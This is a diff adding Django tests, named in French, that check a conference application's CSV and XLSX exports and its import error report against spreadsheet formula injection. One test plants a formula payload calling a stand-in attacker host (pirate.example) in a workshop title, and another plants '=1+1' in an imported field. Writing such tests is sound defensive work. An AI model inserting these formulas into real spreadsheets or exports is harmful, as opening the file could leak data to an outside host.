@@ -84,3 +84,32 @@ def test_le_staff_importe_un_fichier_en_arriere_plan_et_lit_le_rapport(client, e
 def test_un_partenaire_ne_peut_pas_importer(client, edition, partenaire_hdf):
     client.force_login(partenaire_hdf)
     assert client.get(reverse("conference:importer", args=["hdf-2023"])).status_code == 403
+
+
+def test_les_exports_n_ecrivent_aucune_formule(client, edition):
+    atelier = edition.ateliers.order_by("pk").first()
+    atelier.intitule = '=WEBSERVICE("http://pirate.example/")'
+    atelier.save()
+    texte = contenu(client.get(reverse("conference:export", args=["hdf-2023", "csv"]))).decode("utf-8-sig")
+    intitules = {ligne["intitule"] for ligne in csv.DictReader(io.StringIO(texte))}
+    assert "'" + atelier.intitule in intitules and atelier.intitule not in intitules
+    from openpyxl import load_workbook
+
+    xlsx = contenu(client.get(reverse("conference:export", args=["hdf-2023", "xlsx"])))
+    cellules = [ligne[1] for ligne in load_workbook(io.BytesIO(xlsx)).active.iter_rows(min_row=2)]
+    piegee = next(c for c in cellules if c.value == atelier.intitule)
+    assert piegee.data_type == "s"
+    assert {c.data_type for c in cellules} == {"s"}
+
+
+def test_le_rapport_d_erreurs_d_import_n_ecrit_aucune_formule(client, edition, staff_hdf):
+    client.force_login(staff_hdf)
+    casse = (
+        "organisateurs;intitule;transitions;date;commune;departement;format;participants\n"
+        "Autre;Lieu faux;sociale;2023-07-02;=1+1;59;presentiel;12\n"
+    )
+    fichier = SimpleUploadedFile("casse.csv", casse.encode(), content_type="text/csv")
+    client.post(reverse("conference:importer", args=["hdf-2023"]), {"fichier": fichier})
+    travail = Travail.objects.get()
+    erreurs = client.get(travail.resultat["lien"] + "?format=csv").content.decode("utf-8-sig")
+    assert erreurs.splitlines()[1].startswith("2;commune;'=1+1;")
